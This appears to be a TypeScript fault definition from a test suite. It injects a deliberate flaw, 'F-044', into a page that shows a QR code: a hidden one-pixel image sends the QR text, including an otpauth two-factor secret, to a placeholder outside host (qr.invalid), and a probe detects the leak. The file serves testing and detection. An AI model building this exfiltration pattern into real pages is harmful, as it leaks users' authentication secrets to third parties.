import { rewriteHtml } from './html.ts';
import { rememberingTexts } from './known-texts.ts';
import type { ServerFault } from './server-fault.ts';

/** There is nobody of this name, so nothing goes out. @see RFC 2606 section 2 */
const DRAWING_SERVICE = 'http://qr.invalid/chart?size=300&data=';

export const fault: ServerFault = {
  id: 'F-044',
  title: 'The key goes to another site',
  behaviour:
    'The page asks a service of somebody else for a larger picture of the QR code, with all that it says in the address.',
  severity: 'high',
  evidence: 'uptimekit/uptimekit#191; own-pay/OwnPay#464',
  breaks: ['QRC-10'],
  seams: () => {
    const { texts, context } = rememberingTexts();
    return {
      context,
      pages: () =>
        rewriteHtml((html) =>
          html.replace(/<img class="symbol" src="([^"]*)"[^>]*>/, (image, dataUri) => {
            const text = encodeURIComponent(texts.get(dataUri) ?? '');
            return `${image}<img alt="" width="1" height="1" src="${DRAWING_SERVICE}${text}">`;
          }),
        ),
    };
  },
  async isActive(probe) {
    const { web, address } = await probe.started();
    return (await web.text(address)).includes(`${DRAWING_SERVICE}otpauth%3A%2F%2F`);
  },
};
